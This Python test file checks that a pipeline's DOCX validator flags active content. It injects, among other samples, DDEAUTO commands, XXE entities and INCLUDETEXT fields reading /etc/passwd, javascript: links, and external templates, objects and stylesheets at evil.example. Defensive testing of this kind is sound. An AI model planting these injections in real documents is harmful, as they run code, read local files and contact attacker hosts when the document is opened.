"""Nothing in a DOCX acts, loads or embeds: whatever is put into one that is not written here is found."""

from collections.abc import Callable

import pytest

from pipeline.model.finding import Severity
from pipeline.render.docx.check import check
from pipeline.render.docx.write import write
from tests.render.docx.packages import parts, replaced, zipped
from tests.samples import english

DOCUMENT, SETTINGS, RELATIONS = "word/document.xml", "word/settings.xml", "word/_rels/document.xml.rels"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Parts = dict[str, bytes]
Fault = Callable[[Parts], None]


def _field(code: str) -> Fault:
    """Return a fault that puts a field into the first paragraph."""
    run = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    field = run.format("begin") + f"<w:r><w:instrText> {code} </w:instrText></w:r>"
    field += run.format("separate") + run.format("end")
    return replaced(DOCUMENT, "</w:p>", f"{field}</w:p>")


def _inside(markup: str) -> Fault:
    return replaced(DOCUMENT, "</w:p>", f"<w:r>{markup}</w:r></w:p>")


def _related(kind: str, target: str, external: bool = True) -> Fault:
    mode = ' TargetMode="External"' if external else ""
    new = f'<Relationship Id="rId99" Type="{TYPES}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replaced(RELATIONS, "</Relationships>", new)


def _part(name: str, kind: str, data: bytes = b"<x/>") -> Fault:
    def fault(contents: Parts) -> None:
        contents[name] = data
        replaced("[Content_Types].xml", "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')(
            contents
        )

    return fault


def _before(name: str, markup: str) -> Fault:
    """Return a fault that puts something before the root of a part."""

    def fault(contents: Parts) -> None:
        head, mark, rest = contents[name].partition(b"?>")
        contents[name] = head + mark + markup.encode() + rest

    return fault


def _settings(markup: str) -> Fault:
    return replaced(SETTINGS, "</w:settings>", f"{markup}</w:settings>")


R = f'xmlns:r="{TYPES}"'
MACRO = "application/vnd.ms-office.vbaProject"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
FIELDS = (
    *(
        'DDEAUTO c:\\\\x\\\\y.exe "/k calc"',
        "DDE x y",
        'INCLUDETEXT "file:///etc/passwd"',
        "INCLUDEPICTURE http://a.b/x",
    ),
    *('IMPORT "x.gif"', "LINK Excel.Sheet x", 'HYPERLINK "javascript:alert(1)"', "MACROBUTTON x y", "DATABASE"),
    *("AUTOTEXT x", "EMBED x", "FILLIN x", "GOTOBUTTON x y", "QUOTE 65 66", "SET x y", "FILENAME \\p", "USERNAME"),
    *("page", "=", "ASK x y", "PAGE DDE x y"),
)
FAULTS: dict[str, Fault] = {
    **{code: _field(code) for code in FIELDS},
    "a field in one": _inside('<w:fldSimple w:instr="DDE x y"/>'),
    "a part of HTML": _inside(f'<w:altChunk r:id="rId1" {R}/>'),
    "an object": _inside("<w:object/>"),
    "a picture": _inside("<w:drawing/>"),
    "an old picture": _inside("<w:pict/>"),
    "a frame": _settings("<w:frameset/>"),
    "a control": _inside("<w:control/>"),
    "a sub-document": _inside(f'<w:subDoc r:id="rId1" {R}/>'),
    "a template": _settings(f'<w:attachedTemplate r:id="rId1" {R}/>'),
    "a mail merge": _settings("<w:mailMerge/>"),
    "links that are followed at opening": _settings("<w:updateFields/>"),
    "script as link": _related("hyperlink", "javascript:alert(1)"),
    "another's name": _related("hyperlink", "https://un.org@evil.example/"),
    "a share as link": _related("hyperlink", "\\\\evil.example\\x"),
    "a relative link": _related("hyperlink", "evil.docx"),
    "a mail with a file": _related("hyperlink", "mailto:a@b.org?attach=/etc/passwd"),
    **{
        f"outside {kind}": _related(kind, "https://evil.example/x")
        for kind in ("image", "attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk", "package", "styles")
    },
    "a macro": _part("word/vbaProject.bin", MACRO, b"\xd0\xcf"),
    "a macro that says it is XML": _part("word/vbaProject.xml", "application/vnd.ms-word.vbaData+xml"),
    "a part that nobody wrote": _part("word/more.xml", "application/xml"),
    "a control's part": _part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    "data of others": _part("customXml/item9.xml", "application/xml"),
    "a document with macros": replaced(
        "[Content_Types].xml", MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "an instruction": _before(DOCUMENT, '<?mso-application progid="Excel.Sheet"?>'),
    "a sheet of style": _before(DOCUMENT, '<?xml-stylesheet href="http://evil.example/x.xsl"?>'),
    "an instruction for data": _before("customXml/item1.xml", '<?xml-stylesheet href="http://evil.example/x.xsl"?>'),
    "an entity": _before(DOCUMENT, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "an entity of settings": _before(SETTINGS, '<!DOCTYPE x [<!ENTITY e "e">]>'),
}


@pytest.mark.parametrize("name", FAULTS)
def test_what_acts_is_found(name: str) -> None:
    contents = parts(write(english()))
    FAULTS[name](contents)
    assert Severity.ERROR in {item.severity for item in check(zipped(contents), english())}
